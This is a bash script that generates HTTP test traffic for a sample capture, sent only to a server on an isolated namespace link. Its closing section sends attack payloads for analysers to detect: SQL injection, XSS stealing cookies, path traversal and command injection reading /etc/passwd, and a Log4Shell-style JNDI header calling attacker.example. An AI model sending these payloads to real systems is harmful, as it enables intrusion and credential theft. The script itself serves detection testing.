#!/usr/bin/env bash
# Real clients for the sample capture. Runs inside the client namespace (record.sh starts it).
# Env: SERVER (host part of URLs, e.g. 10.77.0.2 or [fd77::2]), SERVER_IP (bare address),
#      WWW (nginx document root, for files to upload).
# Only ever talks to $SERVER: everything stays on the veth link between the two namespaces.
set -u
B="http://$SERVER"
B8080="http://$SERVER:8080"
here=$(cd "$(dirname "$0")" && pwd)
# -g: no URL globbing (IPv6 brackets, attack strings); status and URL printed for the log.
# Bodies go to /dev/null (several URLs per call, so not -o), the log line to stderr.
c() { curl -g -sS --max-time 15 -w '%{stderr}%{http_code} %{method} %{url_effective}\n' "$@" >/dev/null; }

# Keep-alive: several URLs in one curl call share one connection.
c "$B/" "$B/api/users" "$B/api/users/7" "$B/static/app.js"
# JSON API: create, update, delete (204), read.
c -H 'Content-Type: application/json' -d '{"name":"ada","email":"ada@shop.test"}' "$B/api/users"
c -X PUT -H 'Content-Type: application/json' -d '{"name":"grace"}' "$B/api/users/12"
c -X DELETE "$B/api/users/5"
# Form login, right and wrong password.
c -d 'username=ada&password=correct+horse' "$B/api/login"
c -d 'username=ada&password=hunter2' "$B/api/login"
# Multipart upload.
c -F "file=@$WWW/static/logo.txt;type=text/plain" -F 'note=quarterly report' "$B/upload"
# HEAD.
c -I "$B/api/users"
# gzip: JSON from the backend and a static file, compressed by nginx.
c --compressed "$B/api/users?limit=40" "$B/static/app.js"
# Expect: 100-continue with a large body.
c -H 'Expect: 100-continue' -H 'Content-Type: application/octet-stream' \
  --data-binary "@$WWW/static/blob.bin" "$B/upload"
# Chunked request body.
c -H 'Transfer-Encoding: chunked' -H 'Content-Type: application/json' \
  -d '{"report":"weekly","rows":[1,2,3]}' "$B/api/report"
# 404s.
c "$B/api/users/999" "$B/nope"
# HTTP/1.0.
c -0 "$B/api/users/3"
# Chunked response.
c "$B/api/stream"
# 304 from the backend's ETag and from nginx's static-file ETag.
c "$B/api/profile"
c -H 'If-None-Match: "v1-profile-7f3a"' "$B/api/profile"
etag=$(curl -g -sS -I "$B/static/logo.txt" | tr -d '\r' | awk -F': ' 'tolower($1)=="etag"{print $2}')
c -H "If-None-Match: $etag" "$B/static/logo.txt"
# A slow answer (1.5 s).
c "$B/slow"
# Port 8080.
c "$B8080/api/users/4" "$B8080/api/profile"
# Websocket upgrade (101) and HTTP/1.1 pipelining, from raw sockets.
python3 "$here/rawclient.py" websocket "$SERVER_IP" 80
python3 "$here/rawclient.py" pipeline "$SERVER_IP" 80

# Attacks, so that analysers have something to find.
# SQL injection in the query.
c "$B/api/users?id=1%27%20OR%20%271%27%3D%271"
c "$B/api/search?q=1'+UNION+SELECT+username,password+FROM+users--"
# XSS in a form field.
c --data-urlencode 'comment=<script>alert(document.cookie)</script>' "$B/api/comments"
# Path traversal.
c --path-as-is "$B/static/../../../../etc/passwd"
c "$B/api/files?name=..%2f..%2f..%2f..%2fetc%2fpasswd"
# Log4Shell-style header (the name is never resolved: nothing here does JNDI).
c -H 'X-Api-Version: ${jndi:ldap://attacker.example/a}' "$B/api/users/1"
# Command injection.
c "$B/api/ping?host=127.0.0.1%3Bcat%20/etc/passwd"
c "$B/api/ping?host=%24(id)"
# Scanner user agents.
c -A 'sqlmap/1.7.2#stable (https://sqlmap.org)' "$B/api/users?id=1%20AND%201%3D1"
c -A 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)' "$B/admin/config.php"
exit 0
